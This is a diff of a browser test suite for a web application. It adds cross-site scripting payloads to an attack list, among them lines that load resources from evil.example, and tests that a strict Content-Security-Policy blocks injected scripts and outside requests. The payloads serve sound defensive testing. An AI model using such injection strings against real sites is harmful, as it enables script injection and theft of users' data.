@@ -2,7 +2,7 @@
 
 import assert from 'node:assert/strict';
 import { after, before, test } from 'node:test';
-import { answers, converse, idle, openPage, setUp, signIn } from '../support/browser.mjs';
+import { answers, converse, idle, openPage, setUp, signIn, view } from '../support/browser.mjs';
 
 const ATTACKS = [
   '<script>globalThis.pwned = 1</script>',
@@ -22,6 +22,15 @@ const ATTACKS = [
   '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
   '<form action="https://evil.example"><input name=key></form>',
   '<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=globalThis.pwned=1 src>">',
+  '<div style="background-image: url(javascript:pwned=1); -moz-binding: url(https://evil.example/x); width: expression(pwned=1)">x</div>',
+  '<link rel=stylesheet href="https://evil.example/x.css"><meta http-equiv="Content-Security-Policy" content="script-src *">',
+  '<object data="data:text/html,<script>parent.pwned=1</script>"></object><embed src="javascript:pwned=1">',
+  '<details open ontoggle="globalThis.pwned = 1"></details><video onerror="globalThis.pwned = 1"><source></video>',
+  '<span id="app" class="skip"></span><button type="submit" form="sign-in" formaction="javascript:pwned=1">Send</button>',
+  '[left\u202egnp.exe](https://evil.example/\u202egpj.exe)',
+  '[x]: javascript:pwned=1\n\n[by reference][x]',
+  '`<script>globalThis.pwned = 1</script>`\n\n```html\n<script>globalThis.pwned = 1</script>\n```',
+  '| <img src=x onerror="globalThis.pwned = 1"> | b |\n| - | - |\n| [a](javascript:pwned=1) | <svg onload="pwned=1"> |',
   '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
 ];
 
@@ -84,10 +93,71 @@ test('titles, file names and tools are texts', async () => {
   await page.goto(`${all.server.address}/#/sessions/${session.id}`);
   await page.locator('.attachments a').waitFor();
   await harmless();
-  for (const view of ['usage', 'account', 'administration/tools', 'administration/audit']) {
-    await page.goto(`${all.server.address}/#/${view}`);
-    await page.waitForLoadState('networkidle');
+  const { user } = await all.server.api('GET', '/me');
+  const group = await all.server.api('POST', '/groups', { name: attack });
+  await all.server.api('POST', `/groups/${group.id}/members`, { user_id: user.id });
+  await all.server.api('PATCH', `/users/${user.id}`, { name: attack });
+  await all.server.api('POST', '/api-keys', { name: attack });
+  await page.reload();
+  for (const path of ['', 'usage', 'account', 'administration/users', 'administration/groups', 'administration/keys', 'administration/tools', 'administration/audit']) {
+    await view(page, all.server, path);
     assert.equal(await page.evaluate(() => globalThis.pwned), undefined);
   }
   assert.deepEqual(page.problems, []);
+});
+
+test('an attachment by address of a message is a link that says its host', async () => {
+  for (const [address, host] of [['https://tracker.example/a.png', 'tracker.example'], ['https://files.example.org/b.svg', 'files.example.org']]) {
+    const session = await all.server.api('POST', '/sessions', { tool: 'general-assistant' });
+    await all.server.api('POST', `/sessions/${session.id}/messages`, { content: 'Look', attachments: [{ filename: 'photo.png', mime_type: 'image/png', size: 1, storage_provider: 'url', storage_key: address }] });
+    await view(page, all.server, `sessions/${session.id}`);
+    await page.locator('.attachments').getByText(`(${host})`).waitFor();
+    assert.equal(await page.locator('.attachments img').count(), 0);
+  }
+  assert.deepEqual(page.problems, []);
+});
+
+test('the policy permits no inline script or style, and no other host', async () => {
+  const response = await page.goto(all.server.address);
+  const policy = response.headers()['content-security-policy'];
+  assert.doesNotMatch(policy, /unsafe|\*|https?:/);
+  for (const directive of ["default-src 'none'", "script-src 'self'", "style-src 'self'", "connect-src 'self'", "base-uri 'none'", "frame-ancestors 'none'", "form-action 'none'", "require-trusted-types-for 'script'", "trusted-types 'none'"]) assert.ok(policy.includes(directive), directive);
+  assert.equal(response.headers()['x-content-type-options'], 'nosniff');
+  await page.getByRole('button', { name: 'New session' }).waitFor();
+  // What the policy is for: an injection that the page did not prevent does nothing. Each one is a violation by intent.
+  const before = page.problems.length;
+  const outcome = await page.evaluate(async () => {
+    const refused = [];
+    const attempt = (name, operation) => {
+      try {
+        operation();
+      } catch {
+        refused.push(name);
+      }
+    };
+    attempt('innerHTML', () => {
+      document.body.innerHTML = '<img src=x onerror="globalThis.pwned = 1">';
+    });
+    attempt('script text', () => {
+      const script = document.createElement('script');
+      script.text = 'globalThis.pwned = 1';
+      document.body.append(script);
+    });
+    attempt('eval', () => (0, eval)('globalThis.pwned = 1'));
+    attempt('handler', () => {
+      const image = document.createElement('img');
+      image.setAttribute('onerror', 'globalThis.pwned = 1');
+      image.src = 'data:image/png;base64,AA==';
+      document.body.append(image);
+    });
+    const style = document.createElement('style');
+    style.textContent = 'body { opacity: 0.5 }';
+    document.head.append(style);
+    const fetched = await fetch('https://tracker.example/').then(() => 'sent', () => 'refused');
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    // Browsers refuse a handler when it is set, or when it would run.
+    return { refused: refused.filter((name) => name !== 'handler'), fetched, pwned: globalThis.pwned, opacity: getComputedStyle(document.body).opacity };
+  });
+  assert.deepEqual(outcome, { refused: ['innerHTML', 'script text', 'eval'], fetched: 'refused', pwned: undefined, opacity: '1' });
+  page.problems.splice(before);
 });
